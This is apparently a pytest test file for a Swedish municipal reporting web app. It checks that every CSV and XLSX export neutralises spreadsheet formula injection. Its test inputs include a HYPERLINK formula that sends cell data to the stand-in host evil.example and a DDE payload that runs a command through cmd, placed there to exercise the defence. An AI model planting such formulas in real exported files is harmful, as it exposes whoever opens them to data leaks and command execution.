"""No spreadsheet the app makes can run a formula typed by a resident (issue 14.2): the one writer neutralises
text cells, every CSV and XLSX download from the URL map is opened and checked, and no other module may write
CSV or XLSX by itself."""
import ast
import csv
import io
import itertools
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.routing.converters import AnyConverter

from tests.factories import CENTRUM, login, make_report, make_user
from webapp import spreadsheets
from webapp.spreadsheets import neutralise

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Klicka")'
WEBAPP = Path(__file__).resolve().parent.parent / "webapp"


# (a) The neutraliser

@pytest.mark.parametrize("text", [HYPERLINK, "+46 70 123 45 67", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                  "  =1+1", "\n=cmd|' /C calc'!A0", "-", "=", "-12.5"])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [0, -12, -12.5, 55.8706, Decimal("-1.5"), True, date(2026, 1, 2),
                                   datetime(2026, 1, 2, 3, 4)])
def test_numbers_dates_and_booleans_stay_what_they_are(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_plain_text_is_kept_and_forbidden_characters_dropped():
    assert neutralise("Trasig lampa vid Rådhustorget") == "Trasig lampa vid Rådhustorget"
    assert neutralise("a – b, 'citat'") == "a – b, 'citat'"
    assert neutralise("rad ett\nrad två\tflik") == "rad ett\nrad två\tflik"
    assert neutralise("bell\x07 and\x00 vt\x0b") == "bell and vt"
    assert neutralise("\x01=1+1") == "'=1+1"
    assert neutralise(None) == ""


def test_csv_and_xlsx_writers_keep_numbers_numeric_and_formulas_as_text():
    header, rows = ["text", "n", "lon"], [[HYPERLINK, 3, -12.5], ["\x0bok", -4, None]]
    assert list(csv.reader(io.StringIO(spreadsheets.csv_text(header, rows))))[1:] == \
        [["'" + HYPERLINK, "3", "-12.5"], ["ok", "-4", ""]]
    sheet = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes([("Blad", [header, *rows])])))["Blad"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [["'" + HYPERLINK, 3, -12.5],
                                                                             ["ok", -4, None]]
    assert [c.data_type for c in sheet[2]] == ["s", "n", "n"]


# (b) Every CSV and XLSX download, with hostile text in each

def hostile_data():
    """Reports, a campaign, an imported Instagram post, a property owner and a work order, each with text that
    a spreadsheet would take for a formula."""
    from webapp.campaigns import imports
    from webapp.campaigns import services as campaigns
    from webapp.campaigns.services import CampaignInput
    from webapp.extensions import db
    from webapp.geo.models import District
    from webapp.media import photo_settings
    from webapp.reports import lifecycle
    from webapp.workorders import services as workorders

    dark, _ = make_report(category="dark_unsafe", time_of_day="night", description=HYPERLINK,
                          location_text="@SUM(1+1)", email="=evil@example.org")
    littered, _ = make_report(description="-2+3")
    # Text the services would trim, as it could come from an older import or the database itself.
    littered.description, littered.location_text = "\t=1+1\x0b", "\r+cmd"
    dark.reporter_name, dark.reporter_phone = "=cmd|' /C calc'!A0", "+46 70 123 45 67"
    centrum = db.session.execute(select(District.id).where(District.name == "Centrum/Öster")).scalar_one()
    campaign = campaigns.save_campaign(CampaignInput(
        name="=Kampanj", slug="kampanj", kind="instagram_week", starts_on=date.today() - timedelta(days=3),
        ends_on=date.today() + timedelta(days=3), district_ids=[centrum]), "test")
    dark.campaign_id = littered.campaign_id = campaign.id
    post = f'caption,posted_at,lat,lon,place\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",' \
           f'{date.today().isoformat()}T12:00:00,{CENTRUM[1]},{CENTRUM[0]},=Torget\n'
    assert imports.import_posts(campaign, post.encode(), "posts.csv", actor="test", settings=photo_settings()).created == 1
    owner = lifecycle.save_owner("=Ägaren AB", "@kontakt", "-", "test")
    dark.property_owner_id = littered.property_owner_id = owner.id
    db.session.commit()
    workorders.create_work_order([littered.id], kind="cleaning", priority_code="normal", title="@Städa", actor="test", instructions="=1+1")
    from tests.campaigns.test_dialogue import answer, make_dialogue
    talk = make_dialogue("dialog", hostile=True)
    answer(talk, text="=1+1", place=("", "", "@Torget"))
    db.session.commit()
    return {"campaign_id": [campaign.id], "owner_id": [owner.id], "dialogue_id": [talk.id]}


def spreadsheet_urls(app, values: dict) -> tuple[list[str], set[str]]:
    """The GET routes whose file name ends in .csv or .xlsx, or whose extension is a variable that can be csv
    or xlsx, with their arguments filled in; and the URLs whose extension is free-form (they may refuse csv
    and xlsx, and are checked when they answer with a spreadsheet)."""
    adapter = app.url_map.bind("trygghetskartan.test")
    urls, optional = [], set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        extension = re.search(r"\.<(?:[^:>]+:)?(\w+)>$", rule.rule)
        if not rule.rule.endswith((".csv", ".xlsx")) and not extension:
            continue
        names, choices, free = sorted(rule.arguments), [], False
        for name in names:
            converter = rule._converters[name]
            if isinstance(converter, AnyConverter):
                options = sorted(converter.items & {"csv", "xlsx"}) if extension and name == extension.group(1) \
                    else sorted(converter.items)
            elif extension and name == extension.group(1):
                options, free = ["csv", "xlsx"], True
            elif name in values:
                options = values[name]
            else:  # a free-form extension (Open311's json/xml) with some other argument: try it anyway
                assert extension and not isinstance(converter, AnyConverter), \
                    f"{rule.rule}: give the test a value for <{name}>"
                options = ["x"]
            choices.append(options)
        built = [adapter.build(rule.endpoint, dict(zip(names, combo))) for combo in itertools.product(*choices)]
        built = [u for u in built if u.endswith((".csv", ".xlsx"))]
        urls += built
        if free:
            optional.update(built)
    return sorted(set(urls)), optional


def read_cells(response) -> list[tuple[str, int, object, str]]:
    """(sheet, row, value, data type) for every cell of a CSV or a workbook."""
    if response.mimetype == "text/csv":
        return [("csv", i, value, "s") for i, row in enumerate(csv.reader(io.StringIO(response.get_data(as_text=True))))
                for value in row]
    assert response.mimetype == spreadsheets.XLSX_MIMETYPE, response.mimetype
    book = load_workbook(io.BytesIO(response.data))
    return [(sheet.title, i, cell.value, cell.data_type) for sheet in book.worksheets
            for i, row in enumerate(sheet.iter_rows()) for cell in row]


def is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_every_csv_and_xlsx_download_gives_hostile_text_as_inert_text(sqlite_app):
    from webapp.insights.services import EXPORT_FORMATS

    values = hostile_data()
    values["kind"] = sorted(EXPORT_FORMATS)
    # The lowest threshold, so that the hot-spot squares' CSV (two reports in one square) has a row to check.
    sqlite_app.config["DISCLOSURE_THRESHOLD"] = 2
    admin = sqlite_app.test_client()
    login(admin, make_user("admin"))
    urls, optional = spreadsheet_urls(sqlite_app, values)
    seen, texts = [], []
    for url in urls:
        response = admin.get(url)
        if url in optional and response.mimetype not in ("text/csv", spreadsheets.XLSX_MIMETYPE):
            continue
        assert response.status_code == 200, f"{url}: {response.status_code}"
        cells = read_cells(response)
        assert max(i for _, i, _, _ in cells) >= 1, f"{url} has no rows below its header to check"
        for sheet, _, value, data_type in cells:
            assert data_type != "f", f"{url} ({sheet}): a formula {value!r}"
            if isinstance(value, str) and value.startswith(TRIGGERS):
                assert is_number(value), f"{url} ({sheet}): {value!r} starts like a formula"
            texts.append(str(value))
        seen.append(url)
    assert len(seen) >= 11, f"only {len(seen)} spreadsheet routes found in the URL map: {seen}"
    # The hostile text is still there for the reader, as text.
    for text in ("'" + HYPERLINK, "'@SUM(1+1)", "'\t=1+1", "'=cmd|' /C calc'!A0", "'@Städa", "'=1+1", "'=Kampanj",
                 "'=Dialog", "'@Torget"):
        assert text in texts, text


def test_flask_export_writes_inert_spreadsheets(sqlite_app, tmp_path):
    hostile_data()
    runner = sqlite_app.test_cli_runner()
    for fmt in ("csv", "xlsx"):
        result = runner.invoke(args=["export", "points", "--format", fmt, "--out", str(tmp_path)])
        assert result.exit_code == 0, result.output
    written = {p.suffix: p for p in tmp_path.iterdir()}
    rows = list(csv.reader(io.StringIO(written[".csv"].read_text(encoding="utf-8"))))
    assert len(rows) == 4 and not any(v.startswith(TRIGGERS) and not is_number(v) for row in rows for v in row)
    sheet = load_workbook(written[".xlsx"]).worksheets[0]
    assert sheet.max_row == 4 and all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# (c) No module writes CSV or XLSX past the writer

def writers_outside(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found, csv_names = [], set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in ("openpyxl", "xlsxwriter"):
                    found.append(f"import {alias.name}")
                if alias.name == "csv":
                    csv_names.add(alias.asname or "csv")
        elif isinstance(node, ast.ImportFrom) and node.module:
            root = node.module.split(".")[0]
            if root in ("openpyxl", "xlsxwriter") and not {a.name for a in node.names} <= {"load_workbook"}:
                found.append(f"from {node.module} import …")
            if root == "csv" and {a.name for a in node.names} & {"writer", "DictWriter"}:
                found.append("from csv import writer")
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            if node.attr in ("writer", "DictWriter") and isinstance(node.value, ast.Name) \
                    and node.value.id in csv_names:
                found.append(f"csv.{node.attr}")
            if node.attr in ("to_csv", "to_excel"):
                found.append(node.attr)
    return found


def test_no_module_but_the_writer_makes_csv_or_xlsx():
    modules = sorted(WEBAPP.rglob("*.py"))
    assert len(modules) > 30
    offenders = {str(p.relative_to(WEBAPP)): found for p in modules
                 if p != WEBAPP / "spreadsheets.py" and (found := writers_outside(p))}
    assert offenders == {}, f"write CSV and XLSX through webapp.spreadsheets: {offenders}"
    assert writers_outside(WEBAPP / "spreadsheets.py")  # the check does see a writer


def test_csv_for_excel_has_a_bom_semicolons_and_decimal_commas():
    """Issue 24.14: Swedish Excel opens "CSV för Excel" as columns, with å/ä/ö intact and numbers as numbers."""
    from webapp.spreadsheets import csv_name, csv_text

    text = csv_text(["plats", "lat", "antal"], [["Östra Fäladen; vid ån", 55.8706, 3], ["=1+1", -12.5, 0]],
                    excel=True)
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()  # the header in words (no request: English)
    assert lines == ["plats;Latitude (WGS 84);antal", '"Östra Fäladen; vid ån";55,8706;3', "'=1+1;-12,5;0"]
    plain = csv_text(["lat"], [[55.8706]])
    assert plain == "lat\r\n55.8706\r\n"  # the plain CSV is unchanged
    assert csv_name("x-2026-12-07.csv", True) == "x-2026-12-07-excel.csv" and csv_name("x.csv", False) == "x.csv"


def test_xlsx_dates_are_real_dates_at_the_kommuns_wall_time_and_csv_keeps_the_zone():
    """Issue 24.14: a time in a workbook is a date Excel can sort (not text), as the kommun's clock read it."""
    from datetime import datetime, timezone

    from openpyxl import load_workbook

    from webapp.spreadsheets import csv_text, xlsx_bytes
    from webapp.timeutil import local_time

    late = local_time(datetime(2026, 12, 6, 23, 33, tzinfo=timezone.utc))  # 00:33 on 7 December in Landskrona
    book = load_workbook(io.BytesIO(xlsx_bytes([("Blad", [["created"], [late]])])))
    cell = book["Blad"]["A2"]
    assert cell.is_date and cell.value == datetime(2026, 12, 7, 0, 33)
    assert csv_text(None, [[late]]) == "2026-12-07T00:33:00+01:00\r\n"


def test_a_streamed_csv_for_excel_names_its_columns_in_the_requests_language(app):
    """The fresh-user walk: "CSV för Excel" of the lighting basis came with English headers from a real server,
    because a streamed response writes its lines after the request has ended. The words are looked up first."""
    from webapp.spreadsheets import csv_lines

    with app.test_request_context("/", headers={"Accept-Language": "sv"}):
        lines = csv_lines(["reference", "lat"], [["LK-1", 55.87]], excel=True)
    import threading

    found = []
    # Consumed after the request, outside any app context, as a server streams a response.
    reader = threading.Thread(target=lambda: found.append("".join(lines)))
    reader.start()
    reader.join()
    text = found[0]
    assert text.lstrip("\ufeff").splitlines()[0] == "Ärendenummer;Latitud (WGS 84)"
